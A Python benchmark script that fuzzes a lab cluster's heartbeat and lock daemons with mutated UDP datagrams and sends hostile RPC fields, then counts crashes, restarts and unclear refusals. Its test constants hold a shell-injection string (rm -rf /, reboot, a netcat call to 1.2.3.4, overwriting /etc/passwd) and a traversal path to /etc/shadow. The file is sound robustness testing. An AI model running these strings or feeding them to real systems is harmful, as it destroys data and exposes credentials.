"""Hostile input against live daemons: mutated datagrams from a stranger, hostile RPC fields.

    python -m bench.hostile_input [--datagrams 100000]

Setup: a 3-node lab running skyge-heartbeat, -bus, -lock, -ha and -emon with the lab's cluster
key and certificates. Then, from the client namespace (a stranger on the public network without
the key), `--datagrams` datagrams spread over every node's heartbeat (UDP 7400) and lock
(UDP 7412) ports on eth0: random bytes, heartbeat datagrams of the cluster's netid signed with a
wrong key or unsigned and then mutated byte by byte, lock peer datagrams naming the nodes'
domains with a wrong MAC or none, and mutated. Meanwhile and after, RPCs with hostile fields
(huge strings, numbers out of range, unknown enum values, shell metacharacters in names and
paths) on every node's root socket.

Judged from outside the daemons' opinion of themselves:

- daemon_restarts: daemons whose process died or changed (PIDs read before and after);
- membership_changes: joined/left events on every node's heartbeat watch stream during the run;
- rpc_cases: hostile requests sent; rpc_crashes: those answered UNKNOWN or INTERNAL (an
  exception in a servicer) or by a daemon that was gone afterwards; rpc_unclear: refusals whose
  message does not name the offending field; rpc_accepted: hostile requests answered OK (listed
  on stderr: each must be harmless, e.g. a lookup that finds nothing).
"""
from __future__ import annotations

import argparse
import json
import sys
import time
from typing import Any

import grpc

from skyge.clients.lab import Lab, public_ip
from skyge.clients.lab.configs import NETID
from skyge.clients.lab.daemons import start_daemons
from skyge.services.common.paths import DAEMONS, NodePaths
from skyge.v1 import bus_pb2, emon_pb2, ha_pb2, heartbeat_pb2, lock_pb2
from skyge.v1 import bus_pb2_grpc, emon_pb2_grpc, ha_pb2_grpc, heartbeat_pb2_grpc, lock_pb2_grpc
from tests.cluster import heartbeat_support as hs

from bench._common import lab_name, note, result

#: run in the client namespace: argv = targets (json [[ip, port, kind]]), count, netid, seed
SENDER = r"""
import json, random, socket, sys
from skyge.services.heartbeat import wire
from skyge.v1 import lock_peer_pb2 as pp
targets, count = json.loads(sys.argv[1]), int(sys.argv[2])
netid, seed = int(sys.argv[3]), int(sys.argv[4])
rng = random.Random(seed)
wrong_key = bytes(rng.randrange(256) for _ in range(32))

def heartbeat_like():
    kind = rng.choice(list(wire.Kind))
    payload = b""
    if kind == wire.Kind.ANNOUNCE:
        payload = rng.randbytes(rng.randrange(0, 200))
    return wire.encode(kind, netid, rng.randrange(1, 65), rng.randrange(1, 3),
                       rng.randrange(1, 2**63), rng.randrange(2**32), rng.randrange(2**63),
                       5_000_000, rng.choice([wrong_key, None]), payload,
                       echo_domain=rng.randrange(0, 65))

def lock_like():
    d = pp.PeerDatagram(netid=netid, from_domain=rng.randrange(1, 65),
                        from_instance=rng.randrange(1, 2**40),
                        to_domain=rng.randrange(1, 4), to_instance=rng.randrange(0, 3),
                        first_seq=rng.randrange(0, 5), data_ack=rng.randrange(0, 100))
    d.beat.SetInParent()
    return d.SerializeToString() + rng.choice([b"", rng.randbytes(16)])

def mutate(data):
    data = bytearray(data)
    for _ in range(rng.randrange(0, 6)):
        if data and rng.random() < 0.6:
            data[rng.randrange(len(data))] = rng.randrange(256)
        elif rng.random() < 0.5:
            del data[rng.randrange(len(data) + 1):]
        else:
            at = rng.randrange(len(data) + 1)
            data[at:at] = rng.randbytes(rng.randrange(1, 9))
    return bytes(data)

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sent = errors = 0
for i in range(count):
    ip, port, kind = targets[i % len(targets)]
    roll = rng.random()
    if roll < 0.2:
        data = rng.randbytes(rng.randrange(0, 1400))
    elif kind == "heartbeat":
        data = mutate(heartbeat_like())
    else:
        data = mutate(lock_like())
    try:
        sock.sendto(data, (ip, port))
        sent += 1
    except OSError:
        errors += 1
print(json.dumps({"sent": sent, "errors": errors}))
"""

HUGE = "x" * 200_000
SHELL = '$(touch /tmp/skyge-pwned); `reboot`; rm -rf / | nc 1.2.3.4 1 && echo "\\n" > /etc/passwd'
PATHLIKE = "../../../../etc/shadow\x00"


def hostile_rpcs() -> list[tuple[str, str, Any, str]]:
    """(daemon, rpc, request, the field a refusal must name)."""
    bus, ha, hb, lock, emon = bus_pb2, ha_pb2, heartbeat_pb2, lock_pb2, emon_pb2
    cases: list[tuple[str, str, Any, str]] = []
    for name in (HUGE, SHELL, PATHLIKE, "", "ä" * 70):
        cases += [("bus", "CreateBus", bus.CreateBusRequest(domain=1, name=name), "name"),
                  ("bus", "Publish", bus.PublishRequest(domain=1, name=name), "name"),
                  ("bus", "DeleteBus", bus.DeleteBusRequest(domain=1, name=name), "name"),
                  ("ha", "Pulse", ha.PulseRequest(name=name), "name"),
                  ("emon", "GetHistory", emon.GetHistoryRequest(probe=name), "probe")]
    for domain in (65, 2**32 - 1):  # 0 is "this node"
        cases += [("bus", "CreateBus", bus.CreateBusRequest(domain=domain, name="ok"), "domain"),
                  ("ha", "Query", ha.QueryRequest(domain=domain), "domain"),
                  ("ha", "Command", ha.CommandRequest(domain=domain, type=ha.TAKEOVER_FIFO,
                                                      slot=0, action=1), "domain")]
    for number in (8192, 2**32 - 1):
        cases += [("lock", "Inspect", lock.InspectRequest(slot=number, lock=1), "slot"),
                  ("lock", "Inspect",
                   lock.InspectRequest(slot=1, lock=min(number * 4, 2**32 - 1)), "lock"),
                  ("ha", "Command", ha.CommandRequest(domain=1, type=ha.TAKEOVER_FIFO,
                                                      slot=number, action=1), "slot")]
    for votes in (0, 65, 2**32 - 1):
        cases.append(("lock", "SetExpectedVotes", lock.SetExpectedVotesRequest(
            expected_votes=votes), "expected_votes"))
    for unknown in (77, 2**31 - 1):
        cases += [("ha", "Command", ha.CommandRequest(domain=1, type=unknown, slot=0, action=1),
                   "type"),
                  ("ha", "Command", ha.CommandRequest(domain=1, type=ha.TAKEOVER_FIFO, slot=0,
                                                      action=unknown), "action")]
    cases += [("ha", "SetRefuseNew", ha.SetRefuseNewRequest(refuse=True, reason=HUGE), "reason"),
              ("heartbeat", "PublishName", hb.PublishNameRequest(type=2**32 - 1, lower=5,
                                                                 upper=1, value=b"v"), "lower"),
              ("heartbeat", "PublishName", hb.PublishNameRequest(type=100, lower=1, upper=1,
                                                                 value=HUGE.encode()), "value"),
              ("heartbeat", "PublishName", hb.PublishNameRequest(type=100, lower=1, upper=1,
                                                                 scope=99, value=b"v"), "scope"),
              ("emon", "GetCurrent", emon.GetCurrentRequest(probes=[SHELL] * 1000), "probe"),
              ("bus", "Subscribe", bus.SubscribeRequest(domain=1, name=SHELL,
                                                        max_batch=2**32 - 1), "name")]
    return cases


STUBS = {"bus": bus_pb2_grpc.BusStub, "ha": ha_pb2_grpc.HaStub, "lock": lock_pb2_grpc.LockStub,
         "heartbeat": heartbeat_pb2_grpc.HeartbeatStub, "emon": emon_pb2_grpc.EmonStub}


def call(node: Any, daemon: str, rpc: str, request: Any) -> tuple[str, str]:
    """(status code name, details) of one call on the node's root socket."""
    socket = NodePaths.at(node.root).socket(daemon)
    with grpc.insecure_channel(f"unix:{socket}") as channel:
        try:
            reply = getattr(STUBS[daemon](channel), rpc)(request, timeout=10)
            if rpc == "Subscribe":  # a stream: its first answer or its refusal
                next(iter(reply), None)
            return "OK", ""
        except grpc.RpcError as error:
            return error.code().name, error.details() or ""


def daemon_pids(lab: Lab) -> dict[tuple[str, str], int]:
    pids = {}
    for node in lab.nodes:
        for daemon in DAEMONS:
            path = NodePaths.at(node.root).pid_file(daemon)
            pids[(node.key, daemon)] = int(path.read_text()) if path.exists() else 0
    return pids


def alive(pid: int) -> bool:
    try:
        return open(f"/proc/{pid}/stat").read() != "" and pid > 0
    except OSError:
        return False


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.hostile_input", description=__doc__)
    parser.add_argument("--datagrams", type=int, default=100_000,
                        help="datagrams to send in all (default 100000, at most 1000000)")
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args(argv)
    if not 1 <= args.datagrams <= 1_000_000:
        parser.error("--datagrams must be 1 to 1000000")
    started = time.monotonic()
    lab = Lab.up(nodes=3, name=lab_name("hostile"))
    try:
        hs.start_cluster(lab)
        for node in lab.nodes:
            start_daemons(node, [d for d in DAEMONS if d != "heartbeat"],
                          extra_args=("-l", "LOG_NOTICE"))
        hs.wait_members(lab.nodes, [1, 2, 3], 20)
        before = daemon_pids(lab)
        watches = hs.watches(lab.nodes)
        targets = [[public_ip(n.id), port, kind] for n in lab.nodes
                   for port, kind in ((7400, "heartbeat"), (7412, "lock"))]
        note(f"sending {args.datagrams} datagrams to {len(targets)} ports from the client")
        sender = lab.client.run([sys.executable, "-c", SENDER, json.dumps(targets),
                                 str(args.datagrams), str(NETID), str(args.seed)], timeout=1800)
        if sender.returncode != 0:
            raise SystemExit(f"the sender failed: {sender.stderr[-2000:]}")
        sent = json.loads(sender.stdout)
        cases = hostile_rpcs()
        crashes = unclear = accepted = 0
        for node in lab.nodes:
            for daemon, rpc, request, field in cases:
                code, details = call(node, daemon, rpc, request)
                if code in ("UNKNOWN", "INTERNAL"):
                    crashes += 1
                    note(f"CRASH {node.key} {daemon}.{rpc} ({field}): {code} {details[:200]}")
                elif code == "OK":
                    accepted += 1
                    note(f"accepted {node.key} {daemon}.{rpc} ({field} hostile)")
                elif field not in details:
                    unclear += 1
                    note(f"unclear {node.key} {daemon}.{rpc} ({field}): {code} {details[:200]}")
        time.sleep(1.0)  # a detector that would time a peer out has done so by now
        after = daemon_pids(lab)
        restarts = sum(1 for key, pid in before.items()
                       if not pid or after.get(key) != pid or not alive(pid))
        events = [e for w in watches.values() for e in w.snapshot()]
        changes = [e for e in events if e.kind in ("left", "joined")]
        hs.close_all(watches)
        crashes += sum(1 for key, pid in after.items() if not alive(pid))
        dropped = {n.key: dict(hs.stats(n).dropped) for n in lab.nodes}
        note(f"heartbeat drops by reason: {json.dumps(dropped)}")
    finally:
        lab.down()
    result({"datagrams_sent": sent["sent"], "send_errors": sent["errors"],
            "daemon_restarts": restarts, "membership_changes": len(changes),
            "rpc_cases": len(cases) * 3, "rpc_crashes": crashes, "rpc_unclear": unclear,
            "rpc_accepted": accepted, "seconds": round(time.monotonic() - started, 1)})
    return 0 if not (restarts or changes or crashes) else 1


if __name__ == "__main__":
    sys.exit(main())
